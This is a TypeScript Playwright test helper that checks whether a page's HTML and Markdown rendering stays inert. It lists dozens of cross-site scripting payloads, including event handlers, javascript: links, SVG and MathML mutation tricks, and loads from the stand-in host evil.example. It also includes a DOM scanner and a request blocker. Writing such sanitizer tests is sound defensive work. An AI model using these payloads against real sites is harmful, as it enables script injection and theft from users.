//! Text that wants to be more than text, and what tells that it stayed text.

import { expect, type Page } from "@playwright/test";

const RUN = "window.__pwned=1";
const AWAY = "https://evil.example";

/** HTML in its many ways to run something or to fetch something. */
export const HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${AWAY}/x.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror='${RUN}'>`,
  `'><svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
  `<embed src="data:text/html,<script>parent.__pwned=1</script>">`,
  `<a href="javascript:${RUN}">a link</a>`,
  `<a href="java&#9;script:${RUN}">a link</a>`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">a button</button></form>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<style>@import url(${AWAY}/x.css); * { background: url(${AWAY}/x.png) }</style>`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<p style="background:url(${AWAY}/x.png);position:fixed;inset:0">over</p>`,
  `</textarea></title></style></script><img src=x onerror=${RUN}>`,
  `]]>--><img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
  "\u202Egnp.exe\u200B",
];

/** Markdown in its many ways to the same. */
export const MARKDOWN: readonly string[] = [
  `[one](javascript:${RUN}) [two](JaVaScRiPt:${RUN}) [three](<java\tscript:${RUN}>) [four](&#106;avascript:${RUN}) [five](vbscript:${RUN})`,
  `[six](data:text/html,<script>${RUN}</script>) [seven](data:text/html;base64,PHNjcmlwdD4=) [eight](file:///etc/passwd) [nine](blob:${AWAY}/x)`,
  `![a](javascript:${RUN}) ![b](${AWAY}/p.png) ![c](data:image/svg+xml,<svg onload=${RUN}>) ![d](x "onerror=${RUN}")`,
  `<javascript:${RUN}> ${AWAY}/<img/src=x/onerror=${RUN}>`,
  `[ten][x] and a footnote[^1]\n\n[x]: javascript:${RUN} "x"\n[^1]: <img src=x onerror=${RUN}> [back](javascript:${RUN})`,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|---|---|\n| <script>${RUN}</script> | \`<b onclick=${RUN}>\` |`,
  `- [ ] <img src=x onerror=${RUN}>\n- [x] [y](javascript:${RUN})`,
  `\`\`\`"><img src=x onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `Maths: $\\href{javascript:${RUN}}{x}$, $\\url{javascript:${RUN}}$, $\\htmlData{x=" onclick=${RUN}}{y}$, $\\includegraphics{${AWAY}/x.png}$, $\\text{<img src=x onerror=${RUN}>}$`,
];

/** All of the HTML in one text. */
export const EVIL = HTML.join(" ");

/** Keeps the page from everything that is not its server, and says what it asked for. */
export async function watchRequests(page: Page, origin: string): Promise<string[]> {
  const asked: string[] = [];
  await page.context().route((url) => url.protocol.startsWith("http") && url.origin !== origin, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

/** Nothing of it became a part of the page that does something, and nothing ran. */
export async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate(harmful)).toEqual([]);
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
}

function harmful(): string[] {
  const found: string[] = [];
  const bad = (element: Element): boolean => {
    const inPage = element.getRootNode() === document && element.parentElement === document.head;
    if (/^(script|base|meta|link|style|title)$/.test(element.localName)) return !inPage && element.namespaceURI !== "http://www.w3.org/2000/svg";
    if (/^(object|embed|applet|frame|foreignobject|animate|set|use)$/i.test(element.localName)) return true;
    if (element.localName === "iframe") return element.getAttribute("src") !== "/frame/mermaid.html";
    return [...element.attributes].some(({ name, value }) => {
      if (/^on/i.test(name) && name !== "online") return true;
      if (name === "style" && /url\(/i.test(value)) return true;
      if (!/^(href|src|xlink:href|action|formaction|poster|srcset|data|background)$/i.test(name)) return false;
      const url = new URL(value, location.href);
      if (element.localName === "a") return !/^(https?|mailto):$/.test(url.protocol);
      return url.origin !== location.origin && url.protocol !== "blob:";
    });
  };
  const look = (root: Document | ShadowRoot): void => {
    for (const element of root.querySelectorAll("*")) {
      if (bad(element)) found.push(element.outerHTML.slice(0, 200));
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  return found;
}
